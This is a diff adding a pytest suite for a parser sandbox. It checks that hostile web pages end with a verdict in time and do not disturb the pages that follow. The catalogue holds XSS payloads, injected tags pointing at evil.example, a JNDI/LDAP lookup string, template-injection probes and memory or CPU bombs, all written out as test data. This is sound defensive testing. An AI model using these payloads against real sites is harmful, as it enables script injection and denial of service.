@@ -1,0 +1,250 @@
+# ruff: noqa: E501 (pages and their lines are data; a property may end in a refusal)
+"""Hostile pages through real parser children: every one ends with a verdict in time, and the next page is unharmed."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import AsyncIterator, Callable
+from pathlib import Path
+
+import pytest
+
+from services.enrich.adapters.frames import Limits
+from services.enrich.adapters.sandbox import Sandbox
+from shared.errors import Permanent
+from tests.builders import wait_until
+from tests.unit.enrich.pages import BODY, TITLE, html_page, paragraphs_html, raw_page
+
+GOOD = raw_page("\n\n".join((TITLE, *BODY)))
+ARTICLE = f"<article><h1>{TITLE}</h1>{paragraphs_html()}</article>"
+
+CATALOGUE: dict[str, tuple[str, Callable[[], str | bytes]]] = {
+    "X01": ("html", lambda: html_page(ARTICLE + "<script>alert(1)</script>")),
+    "X02": ("html", lambda: html_page(ARTICLE + "<img src=x onerror=alert(1)>")),
+    "X03": ("html", lambda: html_page(ARTICLE + "<svg onload=alert(1)>")),
+    "X04": ("html", lambda: html_page(ARTICLE + "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")),
+    "X05": ("html", lambda: html_page(ARTICLE + "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>")),
+    "X06": ("html", lambda: html_page(ARTICLE + "<a href='javascript&#58;alert(1)'>x</a>")),
+    "X07": ("html", lambda: html_page(ARTICLE + "<a href='data:text/html,<script>alert(1)</script>'>x</a>")),
+    "X08": ("html", lambda: html_page(ARTICLE, "<base href='https://evil.example/'>")),
+    "X09": ("html", lambda: html_page(ARTICLE, "<meta http-equiv=refresh content='0;url=https://evil.example'>")),
+    "X10": ("html", lambda: html_page(ARTICLE, "<style>@import 'https://evil.example'</style>")),
+    "X11": ("html", lambda: html_page(ARTICLE + "<iframe srcdoc='<script>alert(1)</script>'></iframe>")),
+    "X12": ("html", lambda: html_page(ARTICLE + "<form action=https://evil.example><input></form>")),
+    "X13": ("html", lambda: html_page(ARTICLE + "<!-- unclosed")),
+    "X14": ("html", lambda: html_page("<div>" * 100_000 + "text")),
+    "X15": ("html", lambda: html_page("<p>some text here</p>" * 200_000)),
+    "X16": ("html", lambda: html_page("<p " + " ".join(f"a{i}=1" for i in range(200_000)) + ">text</p>")),
+    "X17": ("html", lambda: "<html>" + "<" * 5_000_000),
+    "X18": ("text", lambda: "w" * 3_000_000),
+    "X19": ("html", lambda: html_page("<b>" * 1_000_000 + "x")),
+    "X20": ("html", lambda: html_page("<table><tr><td>" * 300 + "x" + "</td></tr></table>" * 300)),
+    "X21": ("html", lambda: html_page(ARTICLE + "<p>Größe zählt.</p>").encode("cp1252")),
+    "X22": ("html", lambda: html_page(ARTICLE, "<meta charset=utf-8><meta charset=latin-1>")),
+    "X23": ("html", lambda: html_page(ARTICLE.replace("<p>", "<p\x00>"))),
+    "X24": ("html", lambda: b"\x89PNG\r\n\x1a\n" + os.urandom(100_000)),
+    "X25": ("text", lambda: b"%PDF-1.7\n" + os.urandom(100_000)),
+    "X26": ("text", lambda: "\r\r".join((TITLE, *BODY))),
+    "X28": ("text", lambda: "\n\n".join((TITLE, "5 March 2026 " + "1" * 100 + " " * 100_000 + "!", "1:" * 100_000, *BODY))),
+    "X29": ("html", lambda: html_page(ARTICLE + "<p>&#x110000; &#xD800; &#0; &notanentity;</p>")),
+    "X30": ("text", lambda: "\n\n".join((TITLE, *BODY, "{{7*7}} ${jndi:ldap://evil.example/a} <%= 7*7 %>"))),
+    "many lines": ("text", lambda: "x\n" * 1_000_000),
+    "many headers": ("text", lambda: "Recommended\n\nOne\n\n" * 20_000 + TITLE),
+    "many dots": ("text", lambda: TITLE + "\n\n" + "A. " * 700_000),
+    "many marks": ("text", lambda: TITLE + "\n\na" + "\u0301" * 1_000_000),
+    "many hashes": ("text", lambda: TITLE + "\n\nBody here it is.\n\nTags: " + "#a " * 500_000),
+    "deep json": ("json", lambda: '{"text":' * 100_000),
+    "json-ld bomb": ("html", lambda: html_page(ARTICLE, "<script type='application/ld+json'>" + "[" * 100_000 + "</script>")),
+}  # fmt: skip
+MUST_PASS = {
+    name for name in CATALOGUE if name[0] == "X" and int(name[1:]) in {*range(1, 14), 21, 22, 23, 26, 28, 29, 30}
+}
+
+
+@pytest.fixture
+async def sandbox() -> AsyncIterator[Sandbox]:
+    box = Sandbox(1, Limits(seconds=10.0))
+    await box.start()
+    yield box
+    await box.aclose()
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(300)
+async def test_every_hostile_page_ends_with_a_verdict_and_harms_no_neighbour(sandbox: Sandbox) -> None:
+    verdicts: dict[str, str] = {}
+    for name, (kind, make) in CATALOGUE.items():
+        page = raw_page(make(), kind, "text/html" if kind == "html" else "text/plain")
+        await wait_until(lambda: not sandbox._slots.empty(), timeout=60)
+        started = time.monotonic()
+        try:
+            outcome = await sandbox.run(page)
+        except Permanent as error:
+            verdicts[name] = error.rule
+        else:
+            verdicts[name] = "article"
+            text = "\n".join((outcome.article.title, outcome.article.dek, *outcome.article.paragraphs))
+            assert "\x00" not in text
+            if kind == "html":
+                assert "alert(1)" not in text
+                assert "<" not in text.replace("<" * 50, "")[:1] or name == "X17"
+        took = time.monotonic() - started
+        print(f"{name}: {verdicts[name]} in {took:.2f} s")
+        assert took < 12, name
+    good = await sandbox.run(GOOD)
+    assert good.article.paragraphs == BODY
+    assert {verdicts[name] for name in MUST_PASS} == {"article"}, verdicts
+    known = {"article", "no-body", "not-text", "not-html", "bad-json", "sandbox-time", "sandbox-memory"}
+    assert set(verdicts.values()) <= known, verdicts
+
+
+PLANTED = """
+import ctypes, sys, time
+from services.enrich.adapters import parser_child
+from services.enrich.domain import pipeline
+
+real = pipeline.run
+
+def run(page, clock):
+    text = page.data.decode("utf-8", "replace")
+    if text == "segfault":
+        ctypes.string_at(0)
+    if text == "loop":
+        while True:
+            pass
+    if text == "sleep":
+        time.sleep(60)
+    if text == "memory":
+        kept = [bytearray(16_000_000) for _ in range(1000)]
+    if text == "defect":
+        raise IndexError("a defect")
+    if text == "garbage":
+        sys.exit(0)
+    if text == "print":
+        print("noise on stdout" * 1000, flush=True)
+        return real(page.__class__(**{name: getattr(page, name) for name in page.__slots__} | {"data": GOOD}), clock)
+    return real(page, clock)
+
+GOOD = b"Title here\\n\\nA body of some words."
+pipeline.run = run
+parser_child.pipeline.run = run
+if __name__ == "__main__":
+    sys.exit(parser_child.main())
+"""
+
+
+@pytest.fixture
+async def planted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Sandbox]:
+    """A sandbox whose child does what the text says."""
+    (tmp_path / "planted_child.py").write_text(PLANTED, encoding="utf-8")
+    root = Path(__file__).resolve().parents[2]
+    monkeypatch.setattr("services.enrich.adapters.sandbox._ROOT", f"{root}:{tmp_path}")
+    box = Sandbox(2, Limits(seconds=6.0, bytes=256 * 1024 * 1024), module="planted_child")
+    await box.start()
+    yield box
+    await box.aclose()
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        ("segfault", "sandbox-crash"),
+        ("loop", "sandbox-time"),
+        ("sleep", "sandbox-time"),
+        ("memory", "sandbox-memory"),
+        ("defect", "sandbox-crash"),
+        ("garbage", "sandbox-crash"),
+    ],
+)
+async def test_a_killed_child_costs_its_page_only(planted: Sandbox, text: str, rule: str) -> None:
+    before = planted.pids
+    results = await asyncio.gather(
+        planted.run(raw_page(text)), *(planted.run(GOOD) for _ in range(6)), return_exceptions=True
+    )
+    assert isinstance(results[0], Permanent)
+    assert results[0].rule == rule
+    assert [result.article.paragraphs for result in results[1:]] == [BODY] * 6  # type: ignore[union-attr]
+    assert planted.pids != before
+
+
+async def test_prints_of_libraries_do_not_reach_the_protocol(planted: Sandbox) -> None:
+    outcome = await planted.run(raw_page("print"))
+    assert outcome.article.title == "Title here"
+
+
+async def test_a_child_is_replaced_after_its_share_of_documents() -> None:
+    box = Sandbox(1, Limits(documents=2))
+    await box.start()
+    try:
+        seen = []
+        for _ in range(4):
+            await wait_until(lambda: not box._slots.empty(), timeout=30)
+            seen.append(box.pids)
+            await box.run(GOOD)
+        assert seen[0] == seen[1]
+        assert seen[3] != seen[0]
+    finally:
+        await box.aclose()
+
+
+async def test_a_child_killed_from_outside_is_replaced(sandbox: Sandbox) -> None:
+    (pid,) = sandbox.pids
+    os.kill(pid, signal.SIGKILL)
+    with pytest.raises(Permanent) as caught:
+        await sandbox.run(GOOD)
+    assert caught.value.rule == "sandbox-memory"
+    assert (await sandbox.run(GOOD)).article.paragraphs == BODY
+
+
+async def test_a_cancelled_page_leaves_no_stale_answer(sandbox: Sandbox) -> None:
+    task = asyncio.create_task(sandbox.run(raw_page(html_page("<p>some text here</p>" * 20_000), "html", "text/html")))
+    await wait_until(lambda: sandbox._slots.empty())
+    task.cancel()
+    await asyncio.gather(task, return_exceptions=True)
+    assert (await sandbox.run(GOOD)).article.title == TITLE
+
+
+PARENT = """
+import asyncio, sys, time
+from services.enrich.adapters.sandbox import Sandbox
+
+async def main():
+    box = Sandbox(1)
+    await box.start()
+    print(*box.pids, flush=True)
+    await asyncio.sleep(60)
+
+asyncio.run(main())
+"""
+
+
+async def test_children_die_with_their_parent() -> None:
+    root = Path(__file__).resolve().parents[2]
+    parent = subprocess.Popen([sys.executable, "-c", PARENT], cwd=root, stdout=subprocess.PIPE, text=True)
+    assert parent.stdout is not None
+    child = int(await asyncio.to_thread(parent.stdout.readline))
+    assert Path(f"/proc/{child}").exists()
+    parent.kill()
+    parent.wait(10)
+    parent.stdout.close()
+
+    def is_gone() -> bool:
+        try:
+            return "State:\tZ" in Path(f"/proc/{child}/status").read_text(encoding="utf-8")
+        except OSError:
+            return True
+
+    await wait_until(is_gone)
+
+
+async def test_the_child_sees_nothing_of_our_environment(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
+    (pid,) = sandbox.pids
+    names = {
+        entry.split("=")[0] for entry in Path(f"/proc/{pid}/environ").read_text(encoding="utf-8").split("\0") if entry
+    }
+    assert names == {"PYTHONPATH", "LANG", "OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS"}
